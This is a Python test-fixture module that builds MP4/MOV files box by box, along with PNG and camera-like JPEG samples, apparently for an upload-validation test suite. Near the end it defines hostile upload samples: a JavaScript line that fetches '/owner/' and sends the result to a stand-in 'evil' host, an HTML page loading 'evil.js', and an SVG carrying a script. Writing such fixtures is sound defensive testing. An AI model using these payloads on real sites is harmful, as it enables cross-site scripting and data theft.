"""Real MP4/MOV files built box by box (ISO/IEC 14496-12), for the upload checks.

No ffmpeg needed: each file has the boxes a demuxer reads (a video track with a sample
description and sample tables and an ``mdat`` the tables point into), so the lengths below
are what a player would play, not just what one header says.
"""

from __future__ import annotations

import io
import struct

from PIL import Image


def box(name: bytes, *payload: bytes) -> bytes:
    body = b"".join(payload)
    return struct.pack(">I4s", 8 + len(body), name) + body


def full_box(name: bytes, version: int, flags: int, *payload: bytes) -> bytes:
    return box(name, struct.pack(">I", (version << 24) | flags), *payload)


MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def _mvhd(timescale: int, duration: int) -> bytes:
    return full_box(
        b"mvhd",
        0,
        0,
        struct.pack(">IIII", 0, 0, timescale, duration),
        struct.pack(">IH10x", 0x10000, 0x100),
        MATRIX,
        bytes(24),
        struct.pack(">I", 2),
    )


def _tkhd(duration: int) -> bytes:
    return full_box(
        b"tkhd",
        0,
        3,
        struct.pack(">IIIII", 0, 0, 1, 0, duration),
        bytes(8),
        struct.pack(">hhhH", 0, 0, 0, 0),
        MATRIX,
        struct.pack(">II", 64 << 16, 48 << 16),
    )


def _mdhd(timescale: int, duration: int) -> bytes:
    return full_box(
        b"mdhd",
        0,
        0,
        struct.pack(">IIII", 0, 0, timescale, duration),
        struct.pack(">HH", 0x55C4, 0),
    )  # language "und"


def _hdlr(kind: bytes) -> bytes:
    return full_box(b"hdlr", 0, 0, struct.pack(">I4s", 0, kind), bytes(12), b"clip\x00")


def _stsd() -> bytes:
    # An 'avc1' entry: 64x48, with an avcC holding a tiny SPS/PPS pair.
    avcc = box(
        b"avcC",
        bytes([1, 0x42, 0xC0, 0x0A, 0xFF, 0xE1]),
        struct.pack(">H", 4),
        b"\x67\x42\xc0\x0a",
        bytes([1]),
        struct.pack(">H", 4),
        b"\x68\xce\x3c\x80",
    )
    entry = box(
        b"avc1",
        bytes(6),
        struct.pack(">H", 1),
        bytes(16),
        struct.pack(">HHIIIH", 64, 48, 0x480000, 0x480000, 0, 1),
        bytes(32),
        struct.pack(">Hh", 0x18, -1),
        avcc,
    )
    return full_box(b"stsd", 0, 0, struct.pack(">I", 1), entry)


def _sound_stsd() -> bytes:
    # QuickTime's version-1 sound description, as phones write in a MOV: 16 more bytes of
    # sample counts before the child boxes.
    entry = box(
        b"mp4a",
        bytes(6),
        struct.pack(">H", 1),
        struct.pack(">HH4sHHhHI", 1, 0, b"\x00" * 4, 2, 16, -2, 0, 44100 << 16),
        struct.pack(">IIII", 1024, 1, 2, 2),
        box(b"wave", box(b"frma", b"mp4a"), box(b"\x00\x00\x00\x00")),
    )
    return full_box(b"stsd", 0, 0, struct.pack(">I", 1), entry)


def _minf(stbl: bytes, media_header: bytes | None = None) -> bytes:
    return box(
        b"minf",
        media_header or full_box(b"vmhd", 0, 1, bytes(8)),
        box(b"dinf", full_box(b"dref", 0, 0, struct.pack(">I", 1), full_box(b"url ", 0, 1))),
        stbl,
    )


SAMPLE = b"\x00\x00\x00\x05\x65\x88\x84\x00\x21"  # one length-prefixed NAL unit


def movie(
    seconds: float,
    *,
    brand: bytes = b"isom",
    timescale: int = 1000,
    fps: int = 10,
    header_seconds: float | None = None,
    handler: bytes = b"vide",
    sound: bool = False,
    delay_seconds: float = 0,
) -> bytes:
    """A progressive (one ``moov``) file with ``seconds`` of samples.

    ``header_seconds`` writes another length into the movie and track headers, to see that
    a lying header does not win over the samples; ``sound`` adds a first, sound track;
    ``delay_seconds`` puts an empty edit (a blank wait) before the picture, in an edit list
    the headers do not count.
    """
    count = max(1, round(seconds * fps))
    delta = round(seconds * timescale / count)
    shown = round((seconds if header_seconds is None else header_seconds) * timescale)
    ftyp = box(b"ftyp", brand, struct.pack(">I", 0x200), brand, b"mp41")

    def build(chunk_offset: int) -> bytes:
        stbl = box(
            b"stbl",
            _stsd(),
            full_box(b"stts", 0, 0, struct.pack(">III", 1, count, delta)),
            full_box(b"stsc", 0, 0, struct.pack(">IIII", 1, 1, count, 1)),
            full_box(b"stsz", 0, 0, struct.pack(">II", len(SAMPLE), count)),
            full_box(b"stco", 0, 0, struct.pack(">II", 1, chunk_offset)),
        )
        edits = b""
        if delay_seconds:
            edits = box(
                b"edts",
                full_box(
                    b"elst",
                    0,
                    0,
                    struct.pack(
                        ">IIiIIiI",
                        2,
                        round(delay_seconds * timescale),
                        -1,
                        0x10000,
                        count * delta,
                        0,
                        0x10000,
                    ),
                ),
            )
        trak = box(
            b"trak",
            _tkhd(shown),
            edits,
            box(b"mdia", _mdhd(timescale, shown), _hdlr(handler), _minf(stbl)),
        )
        if not sound:
            return box(b"moov", _mvhd(timescale, shown), trak)
        sound_stbl = box(
            b"stbl",
            _sound_stsd(),
            full_box(b"stts", 0, 0, struct.pack(">III", 1, count, delta)),
            full_box(b"stsc", 0, 0, struct.pack(">IIII", 1, 1, count, 1)),
            full_box(b"stsz", 0, 0, struct.pack(">II", len(SAMPLE), count)),
            full_box(b"stco", 0, 0, struct.pack(">II", 1, chunk_offset)),
        )
        sound_trak = box(
            b"trak",
            _tkhd(shown),
            box(
                b"mdia",
                _mdhd(timescale, shown),
                _hdlr(b"soun"),
                _minf(sound_stbl, full_box(b"smhd", 0, 0, bytes(4))),
            ),
        )
        return box(b"moov", _mvhd(timescale, shown), sound_trak, trak)

    moov = build(0)
    moov = build(len(ftyp) + len(moov) + 8)
    return ftyp + moov + box(b"mdat", SAMPLE * count)


def fragmented_movie(
    seconds: float, *, timescale: int = 1000, fps: int = 10, fragments: int = 5
) -> bytes:
    """What ``ffmpeg -movflags frag_keyframe+empty_moov`` writes: an empty ``moov`` (every
    length 0, ``mvex/trex``) and then ``moof`` + ``mdat`` pairs holding all the samples."""
    ftyp = box(b"ftyp", b"iso5", struct.pack(">I", 0x200), b"iso5", b"iso6", b"mp41")
    stbl = box(
        b"stbl",
        _stsd(),
        full_box(b"stts", 0, 0, struct.pack(">I", 0)),
        full_box(b"stsc", 0, 0, struct.pack(">I", 0)),
        full_box(b"stsz", 0, 0, struct.pack(">II", 0, 0)),
        full_box(b"stco", 0, 0, struct.pack(">I", 0)),
    )
    trak = box(b"trak", _tkhd(0), box(b"mdia", _mdhd(timescale, 0), _hdlr(b"vide"), _minf(stbl)))
    mvex = box(b"mvex", full_box(b"trex", 0, 0, struct.pack(">IIIII", 1, 1, 0, 0, 0)))
    out = ftyp + box(b"moov", _mvhd(timescale, 0), trak, mvex)
    count = max(1, round(seconds * fps / fragments))
    delta = round(seconds * timescale / (count * fragments))
    decode_time = 0
    for sequence in range(1, fragments + 1):

        def moof(data_offset: int, sequence: int = sequence, decode_time: int = decode_time):
            trun = full_box(
                b"trun",
                0,
                0x000001 | 0x000100 | 0x000200,
                struct.pack(">Ii", count, data_offset),
                struct.pack(">II", delta, len(SAMPLE)) * count,
            )
            traf = box(
                b"traf",
                full_box(b"tfhd", 0, 0x020000, struct.pack(">I", 1)),
                full_box(b"tfdt", 1, 0, struct.pack(">Q", decode_time)),
                trun,
            )
            return box(b"moof", full_box(b"mfhd", 0, 0, struct.pack(">I", sequence)), traf)

        header = moof(0)
        out += moof(len(header) + 8) + box(b"mdat", SAMPLE * count)
        decode_time += count * delta
    return out


def png(size: tuple[int, int] = (40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (255, 120, 0)).save(buffer, format="PNG")
    return buffer.getvalue()


SCRIPT = b"fetch('/owner/').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)\n"
HTML = b'<!doctype html><script src="evil.js"></script>\n'
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>\n"
)


def jpeg_with_exif(size=(2400, 1600), orientation: int = 6) -> bytes:
    """A camera-like JPEG: big, with EXIF (a GPS position and an orientation tag)."""
    image = Image.new("RGB", size, (200, 80, 30))
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation: rotate 90° CW to display
    exif[0x010F] = "PhoneMaker"  # Make
    gps = {1: "N", 2: (37.0, 33.0, 21.0), 3: "E", 4: (126.0, 54.0, 7.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()
